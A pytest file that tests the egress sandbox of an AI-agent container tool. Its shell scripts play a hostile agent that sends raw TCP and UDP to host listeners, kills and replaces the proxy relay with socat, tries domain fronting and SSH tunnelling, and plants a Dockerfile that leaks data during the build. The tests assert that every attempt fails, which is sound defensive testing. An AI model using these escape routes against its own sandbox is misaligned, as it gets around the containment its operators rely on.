"""Allowlist egress attacks, played from inside real sandboxes (issue 12, and the build
part of issue 11). Only local listeners, loopback and containers these tests start are
ever addressed: see testing/egress.py.

The walls: an allowlist sandbox has no network but loopback, its one way out is the
session's unix socket to this home's Squid proxy; `none` reaches nothing but loopback.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from testing.egress import (
    Listener,
    Upstream,
    bridge_addresses,
    docker,
    egress_container,
    start_upstream,
    stop_upstream,
)
from testing.runner import Aishell


@pytest.fixture(scope="module")
def upstream(root_user: Aishell, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    up = start_upstream(root_user.hold("foundation"), "egress", tmp_path_factory.mktemp("up"))
    yield up
    stop_upstream(up)


@pytest.fixture
def listeners() -> Iterator[list[Listener]]:
    """A host listener on 0.0.0.0 and one on each bridge address (TCP and UDP each)."""
    made = [Listener("0.0.0.0"), *(Listener(a) for a in bridge_addresses())]
    yield made
    for listener in made:
        listener.close()


def targets(listeners: list[Listener]) -> list[str]:
    """address:port pairs that lead to the host listeners (the 0.0.0.0 one through
    every bridge address)."""
    wildcard, *bound = listeners
    found = [f"{addr}:{wildcard.port}" for addr in bridge_addresses()]
    found += [f"{lst.address}:{lst.port}" for lst in bound]
    return found


def project_with(ai: Aishell, config: str, name: str = "egress") -> Path:
    project = ai.new_project(name)
    ai.write(project / ".aishell" / "config.yaml", config)
    return project


def parse(stdout: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for line in stdout.splitlines():
        key, _, rest = line.partition(" ")
        out.setdefault(key, []).append(rest)
    return out


# The hostile agent: raw TCP and UDP to every address that leads to the host (and to the
# sandbox's own default gateway, if it has one), as the user and as root (sudo); then
# the same addresses through the proxy, even allowlisted.
PROBE = r"""
probe() {
    for t in $TARGETS $(awk 'NR > 1 && $2 == "00000000" && $3 != "00000000" {
            h = $3; printf "%d.%d.%d.%d:%s\n", "0x" substr(h, 7, 2), "0x" substr(h, 5, 2),
            "0x" substr(h, 3, 2), "0x" substr(h, 1, 2), port }' port="$PORT" /proc/net/route); do
        ip=${t%:*}; p=${t#*:}
        timeout 3 bash -c "echo tcp-leak-$1 > /dev/tcp/$ip/$p" 2>/dev/null && echo "TCP-OPEN $1 $t"
        timeout 3 bash -c "echo udp-leak-$1 > /dev/udp/$ip/$p" 2>/dev/null && echo "UDP-SENT $1 $t"
    done
}
echo "IFACES $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\n' ' ')"
probe user
sudo -n true 2>/dev/null && export -f probe && sudo -n --preserve-env=TARGETS,PORT bash -c 'probe root'
if [ -n "${HTTP_PROXY:-}" ]; then
    for t in $TARGETS 127.0.0.1:3128; do
        echo "PROXY-HTTP $t $(curl -sS -m 10 -o /dev/null -w '%{http_code}' "http://$t/" 2>/dev/null)"
        echo "PROXY-CONNECT $t $(curl -sS -m 10 -p -o /dev/null -w '%{http_connect}' "https://$t/" 2>/dev/null)"
    done
    echo "CONTROL $(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://not-allowed.invalid/)"
fi
exit 0
"""  # noqa: E501


@pytest.mark.targets("docker", "podman")
@pytest.mark.parametrize("mode", ["allowlist", "none"])
def test_the_host_is_unreachable(anyone: Aishell, listeners: list[Listener], mode: str) -> None:
    """A listener on 0.0.0.0 and on each bridge address of the host: nothing reaches it,
    TCP or UDP, as the user or as root, directly or through the proxy (even with the
    host's addresses on the allowlist: the proxy refuses the host as a destination)."""
    tgts = targets(listeners)
    allow = ", ".join(f'"{t}"' for t in tgts)
    config = f"network:\n  mode: {mode}\n" + (
        f"  allow: [{allow}]\n" if mode == "allowlist" else ""
    )
    project = project_with(anyone, config, f"walls-{mode}")
    result = anyone.run(
        "exec", "env", f"TARGETS={' '.join(tgts)}", f"PORT={listeners[0].port}",
        "bash", "-c", PROBE, cwd=project, timeout=600,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    got = parse(result.stdout)
    time.sleep(0.5)  # let a datagram in flight land before looking (not a synchronisation)
    assert [r for lst in listeners for r in lst.received] == [], result.stdout
    assert got["IFACES"] == ["lo "], result.stdout  # loopback only, both IP families
    assert "TCP-OPEN" not in got and "UDP-SENT" not in got, result.stdout
    if mode == "allowlist":
        assert got["CONTROL"] == ["403"], result.stdout  # the proxy answers: the path works
        for line in got["PROXY-HTTP"]:  # refused (the proxy's own port: not even a request)
            assert line.endswith(" 400" if line.startswith("127.0.0.1:") else " 403"), result.stdout
        assert all(line.endswith(" 000") for line in got["PROXY-CONNECT"]), result.stdout


RELAY_ATTACK = r"""
ls -A /run/aishell-egress | tr '\n' ' ' | sed 's/^/SOCKETS /'; echo
echo "EGRESS-DIR $(ls "$AISHELL_HOME_DIR/egress" 2>&1 | head -1)"
touch /run/aishell-egress/x 2>/dev/null; echo "WRITE $?"
sudo -n touch /run/aishell-egress/x 2>/dev/null; echo "SUDO-WRITE $?"
sudo -n socat -u OPEN:/dev/null UNIX-CONNECT:/run/aishell-egress/alive.sock 2>/dev/null; echo "ALIVE-AGAIN $?"
sudo -n pkill -f '^socat TCP-LISTEN:31[2]8'; sleep 0.5
echo "AFTER-KILL $(curl -sS -m 5 -o /dev/null -w '%{http_code}' http://not-allowed.invalid/ 2>/dev/null)"
curl -sS -m 5 --noproxy '*' -o /dev/null http://1.2.3.4/ 2>/dev/null; echo "DIRECT $?"
socat TCP-LISTEN:4444,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/aishell-egress/proxy.sock &
sleep 0.5
echo "OWN-RELAY $(curl -sS -m 10 -x http://127.0.0.1:4444 -o /dev/null -w '%{http_code}' http://not-allowed.invalid/)"
echo "OWN-RELAY-CONNECT $(curl -sS -m 10 -x http://127.0.0.1:4444 -p -o /dev/null -w '%{http_connect}' https://not-allowed.invalid/ 2>/dev/null)"
(printf 'GET http://not-allowed.invalid/ HTTP/1.0\r\n\r\n'; sleep 5) \
    | timeout 10 socat - UNIX-CONNECT:/run/aishell-egress/proxy.sock | head -1 | sed 's/^/RAW-SOCKET /'
# Killing the keep-alive too ends the session: the agent only loses its own way out.
sudo -n pkill -x socat
for _ in $(seq 1 100); do [ -S /run/aishell-egress/proxy.sock ] || break; sleep 0.1; done
echo "SESSION-GONE $(ls -A /run/aishell-egress | wc -l)"
"""  # noqa: E501


@pytest.mark.targets("docker", "podman")
def test_killing_or_replacing_the_relay_changes_nothing(anyone: Aishell) -> None:
    """The agent kills the relay (with sudo), makes its own, talks to the socket
    directly, tries to write next to it or take the session's keep-alive: it gets no
    other way out, and the proxy still enforces the policy."""
    project = project_with(anyone, "network:\n  mode: allowlist\n  allow: [allowed.test]\n")
    result = anyone.run(
        "exec", "env", f"AISHELL_HOME_DIR={anyone.aishell_home}", "bash", "-c", RELAY_ATTACK,
        cwd=project, timeout=600,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    got = {k: v[0].strip() for k, v in parse(result.stdout).items()}
    assert got["SOCKETS"] == "alive.sock proxy.sock", result.stdout  # its own, nothing else
    assert "No such file" in got["EGRESS-DIR"]  # no policy, no other session in sight
    assert got["WRITE"] != "0" and got["SUDO-WRITE"] != "0"  # mounted read-only
    assert got["ALIVE-AGAIN"] != "0"  # the keep-alive takes one connection: the entrypoint's
    assert got["AFTER-KILL"] == "000"  # no relay: nothing at all
    assert got["DIRECT"] != "0"
    assert got["OWN-RELAY"] == "403" and got["OWN-RELAY-CONNECT"] == "000", result.stdout
    assert got["RAW-SOCKET"].startswith("HTTP/1.1 403"), result.stdout
    assert got["SESSION-GONE"] == "0", result.stdout


TLS_ATTACK = r"""
k="-k -sS -m 10 -o /dev/null"
P=${HTTPS_PROXY#http://}; P=${P%/}
echo "H1 $(curl $k --http1.1 -w '%{http_code}' https://allowed.test/) $(curl -k -sS -m 10 --http1.1 https://allowed.test/)"
echo "H2 $(curl -k -sS -m 10 --http2 https://allowed.test/)"
echo "PLAIN $(curl -sS -m 10 http://allowed.test/)"
echo "HOSTHDR $(curl -sS -m 10 -H 'Host: denied.test' http://allowed.test/)"
echo "FRONT $(curl $k -w '%{http_code}' --connect-to ::allowed.test: https://denied.test/ 2>/dev/null)"
echo "FRONT-H2 $(curl $k --http2 -w '%{http_code}' --connect-to ::allowed.test: https://denied.test/ 2>/dev/null)"
echo "DENIED $(curl $k -w '%{http_code}' https://denied.test/ 2>/dev/null)"
echo "CASE $(echo | timeout 10 openssl s_client -proxy $P -connect allowed.test:443 -servername ALLOWED.Test 2>/dev/null | grep -c 'BEGIN CERTIFICATE')"
echo "NOSNI $(echo | timeout 10 openssl s_client -proxy $P -connect allowed.test:443 -noservername 2>/dev/null | grep -c 'BEGIN CERTIFICATE')"
echo "NOTLS $(printf 'CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n' | timeout 10 socat - TCP:$P | grep -c 'hello from')"
echo "SSH $( (printf 'CONNECT allowed.test:2222 HTTP/1.1\r\nHost: allowed.test:2222\r\n\r\nSSH-2.0-client\r\n'; sleep 3) | timeout 8 socat - TCP:$P | grep -c SSH-2.0-aishell)"
"""  # noqa: E501


def decisions(ai: Aishell) -> str:
    logs = sorted(
        (ai.aishell_home / "logs" / "network").glob("*/decisions.log"),
        key=lambda p: p.stat().st_mtime,
    )
    return logs[-1].read_text()


def test_tls_is_checked_not_trusted(anyone: Aishell, upstream: Upstream) -> None:
    """CONNECT to an allowed host, then a ClientHello naming another (domain fronting):
    cut and logged. No SNI: cut. Not TLS at all: cut. The allowed host works over
    HTTP/1.1 and HTTP/2; plain HTTP goes to the URL's host whatever the Host header says.
    A server-talks-first protocol (SSH) on an allowlisted port does not get a tunnel."""
    config = 'network:\n  mode: allowlist\n  allow: [allowed.test, "allowed.test:2222"]\n'
    project = project_with(anyone, config)
    result = anyone.run(
        "exec", "bash", "-c", TLS_ATTACK, cwd=project, env=upstream.env, timeout=600
    )
    assert result.returncode == 0, result.stderr
    got = {k: v[0] for k, v in parse(result.stdout).items()}
    assert got["H1"] == "200 hello from allowed.test over HTTP/1.1", result.stdout
    assert got["H2"] == "hello from allowed.test over HTTP/2.0", result.stdout
    assert got["PLAIN"] == "hello from allowed.test over HTTP/1.1"
    assert got["HOSTHDR"] == "hello from allowed.test over HTTP/1.1"  # never denied.test
    assert got["FRONT"] == "000" and got["FRONT-H2"] == "000", result.stdout
    assert got["DENIED"] == "000"
    assert got["CASE"] == "1", result.stdout  # the same name in other case is the same name
    assert got["NOSNI"] == "0", result.stdout
    assert got["NOTLS"] == "0", result.stdout  # plain HTTP inside a CONNECT: not tunnelled
    assert got["SSH"] == "0", result.stdout  # SSH over an allowed port: not tunnelled
    log = decisions(anyone)
    assert "DENY" in log and "sni=denied.test tls=terminate policy=sni-mismatch" in log, log
    assert "policy=tls-without-sni" in log, log
    assert "CONNECT allowed.test:443 sni=- tls=peek policy=not-tls" in log, log
    assert "ALLOW" in log and "CONNECT allowed.test:443 sni=allowed.test tls=splice" in log
    assert "CONNECT denied.test:443 sni=- tls=terminate policy=not-allowlisted" in log


def test_sessions_share_the_proxy_not_their_policies(
    root_user: Aishell, upstream: Upstream
) -> None:
    """Two sessions of one home, at once, on one proxy: each gets its own policy and log;
    neither can reach the other's sandbox, socket or log."""
    ai = root_user
    other = project_with(ai, "network:\n  mode: allowlist\n  allow: [denied.test]\n", "other")
    started = ai.run("--detach", "--name", "peer", "shell", cwd=other, env=upstream.env)
    assert started.returncode == 0, started.stderr
    peer = json.loads(ai.run("ps", "--json", cwd=other).stdout)[0]["container"]
    try:
        inside = docker("exec", peer, "curl", "-sS", "-m", "10", "http://denied.test/")
        assert inside.stdout.strip() == "hello from denied.test over HTTP/1.1", inside.stderr
        peer_session = docker(
            "inspect", "-f", '{{index .Config.Labels "aishell.session"}}', peer
        ).stdout.strip()
        project = project_with(ai, "network:\n  mode: allowlist\n  allow: [allowed.test]\n")
        sockets = ai.aishell_home / "egress" / "sockets"
        logs = ai.aishell_home / "logs" / "network"
        script = (
            'echo "MINE $(curl -sS -m 10 http://allowed.test/)"; '
            'echo "PEERS $(curl -sS -m 10 -o /dev/null -w %{http_code} http://denied.test/)"; '
            f'echo "PEER-SOCKET $(ls {sockets}/{peer_session} 2>&1 | head -1)"; '
            f'echo "PEER-LOG $(cat {logs}/{peer_session}/decisions.log 2>&1 | head -1)"; '
            f'curl -sS -m 5 --noproxy "*" http://{upstream.ip}/ >/dev/null 2>&1; echo "DIRECT $?"'
        )
        result = ai.run("exec", "bash", "-c", script, cwd=project, env=upstream.env)
        got = {k: v[0] for k, v in parse(result.stdout).items()}
        assert got["MINE"] == "hello from allowed.test over HTTP/1.1", result.stdout
        assert got["PEERS"] == "403"  # the peer's allowlist is not ours
        assert "No such file" in got["PEER-SOCKET"] and "No such file" in got["PEER-LOG"]
        assert got["DIRECT"] != "0"
        peer_log = (
            ai.aishell_home / "logs" / "network" / peer_session / "decisions.log"
        ).read_text()
        assert "http://denied.test/" in peer_log and "allowed.test/" not in peer_log
    finally:
        docker("rm", "-f", peer)


def test_a_detached_session_ends_with_its_sandbox(root_user: Aishell, upstream: Upstream) -> None:
    """No other launch, no `aishell ps`: when the detached sandbox is gone, the proxy
    has torn its session down (socket, policy) and logged the end."""
    ai = root_user
    project = project_with(ai, "network:\n  mode: allowlist\n  allow: [allowed.test]\n", "det")
    started = ai.run("--detach", "--name", "gone", "shell", cwd=project, env=upstream.env)
    assert started.returncode == 0, started.stderr
    name = json.loads(ai.run("ps", "--json", cwd=project).stdout)[0]["container"]
    session = docker("inspect", "-f", '{{index .Config.Labels "aishell.session"}}', name)
    session_id = session.stdout.strip()
    sessions = ai.aishell_home / "egress" / "sessions" / session_id
    sockets = ai.aishell_home / "egress" / "sockets" / session_id
    registered = sessions.is_dir() and (sockets / "proxy.sock").exists()
    docker("rm", "-f", name)

    def leftovers() -> list[str]:  # anything on the engine still carrying the session
        label = f"label=aishell.session={session_id}"
        found = docker("ps", "-aq", "--filter", label).stdout.split()
        return found + docker("network", "ls", "-q", "--filter", label).stdout.split()

    deadline = time.monotonic() + 60
    while (sessions.exists() or sockets.exists() or leftovers()) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert leftovers() == []
    assert registered and not sessions.exists() and not sockets.exists()
    log = (ai.aishell_home / "logs" / "network" / session_id / "decisions.log").read_text()
    assert "session ended" in log


DOCKERFILE = """FROM aishell:base
RUN (echo build-leak > /dev/tcp/{ip}/{port}) 2>/dev/null; \\
    (echo build-leak > /dev/udp/{ip}/{port}) 2>/dev/null; \\
    (curl -sS -m 5 http://{ip}:{port}/ >/dev/null 2>&1); echo ran > /planted-step-ran
"""


@pytest.mark.parametrize("where", ["project-none", "project-allowlist", "global-allowlist"])
def test_a_planted_dockerfile_builds_without_network(
    anyone: Aishell, listeners: list[Listener], where: str
) -> None:
    """A project Dockerfile the agent planted tries to send data to a host listener
    from a RUN step; under `none` or `allowlist` (the project's or the global one) the
    build has no network: the image builds, the listener hears nothing."""
    ai, env = anyone, None
    wildcard = listeners[0]
    ip = bridge_addresses()[0]
    project = ai.new_project("planted")
    if where.startswith("global"):
        home = ai.home / f"ah-{time.monotonic_ns()}"
        home.mkdir()
        for name in ("state.json", "config.yaml"):
            (home / name).write_text((ai.aishell_home / name).read_text())
        with (home / "config.yaml").open("a") as fh:
            fh.write("network:\n  mode: allowlist\n  allow: [allowed.test]\n")
        import subprocess

        subprocess.run(["chown", "-R", f"{ai.uid}:{ai.gid}", str(home)], check=True)
        env = {"AISHELL_HOME": str(home)}
    else:
        mode = where.split("-")[1]
        ai.write(project / ".aishell" / "config.yaml", f"network:\n  mode: {mode}\n")
    ai.write(project / ".aishell" / "Dockerfile", DOCKERFILE.format(ip=ip, port=wildcard.port))
    if env is not None:  # approvals are per aishell home: approve it in that one too
        approved = ai.run("trust", "--yes", cwd=project, env=env)
        assert approved.returncode == 0, approved.stderr
    result = ai.run("exec", "cat", "/planted-step-ran", cwd=project, env=env, timeout=900)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "ran\n"  # the planted step did run, in the build
    time.sleep(0.5)  # a datagram in flight lands before we look (not a synchronisation)
    assert [r for lst in listeners for r in lst.received] == []


def test_a_build_that_needs_the_network_says_why_it_failed(anyone: Aishell) -> None:
    project = project_with(anyone, "network: none\n", "needsnet")
    anyone.write(
        project / ".aishell" / "Dockerfile",
        "FROM aishell:base\nRUN curl -fsS -m 5 http://deb.debian.org/ >/dev/null\n",
    )
    result = anyone.run("exec", "true", cwd=project, timeout=900)
    assert result.returncode == 1
    assert "the build ran without network" in result.stderr
    assert [line for line in result.stderr.splitlines() if line.startswith("Error:")] != []


def test_each_home_has_its_own_proxy(root_user: Aishell, user: Aishell) -> None:
    """Two homes (two users) on one engine: each runs its own proxy, named and labelled
    for its home, as its own user (files it writes are that user's)."""
    names = []
    for ai in (root_user, user):
        project = project_with(ai, "network:\n  mode: allowlist\n  allow: [allowed.test]\n", "home")
        assert ai.run("exec", "true", cwd=project).returncode == 0
        name = egress_container(ai)
        info = docker(
            "inspect", "-f", '{{.Config.User}} {{index .Config.Labels "aishell.home"}}', name
        )
        assert info.returncode == 0, info.stderr
        assert info.stdout.split()[-1] in name
        names.append(name)
        log = next((ai.aishell_home / "logs" / "network").glob("*/decisions.log"))
        assert log.stat().st_uid == ai.uid
    assert names[0] != names[1]
    assert (
        docker("inspect", "-f", "{{.Config.User}}", names[1]).stdout.strip()
        == f"{user.uid}:{user.gid}"
    )


@pytest.mark.targets("docker", "podman")
def test_a_killed_proxy_leaves_no_way_out(anyone: Aishell) -> None:
    """The proxy dies while a session runs: the session's requests fail, there is still
    no other way out; the next launch starts the proxy again and the policy holds."""
    project = project_with(anyone, "network:\n  mode: allowlist\n  allow: [allowed.test]\n")
    code = "curl -sS -m 5 -o /dev/null -w %{http_code} http://not-allowed.invalid/ 2>/dev/null"
    script = (
        f'echo "BEFORE $({code})" > before.tmp && mv before.tmp before; '
        "while [ ! -e go ]; do sleep 0.2; done; "
        f'echo "AFTER $({code})"; '
        "timeout 3 bash -c 'echo x > /dev/tcp/1.2.3.4/80' 2>/dev/null; echo \"DIRECT $?\""
    )
    proc = anyone.popen("exec", "bash", "-c", script, cwd=project)
    try:
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and not (project / "before").exists():
            time.sleep(0.2)
        killed = anyone.engine_cli("rm", "-f", egress_container(anyone))
        assert killed.returncode == 0, killed.stderr
        (project / "go").touch()
        out, err = proc.communicate(timeout=300)
    finally:
        if proc.poll() is None:
            proc.kill()
    got = {k: v[0] for k, v in parse((project / "before").read_text() + out).items()}
    assert got["BEFORE"] == "403", (out, err)  # the proxy answered while it ran
    assert got["AFTER"] == "000", (out, err)
    assert got["DIRECT"] != "0"
    again = anyone.run(
        "exec", "bash", "-c", code, cwd=project, timeout=600
    )  # a new launch: a new proxy
    assert again.stdout == "403", again.stderr
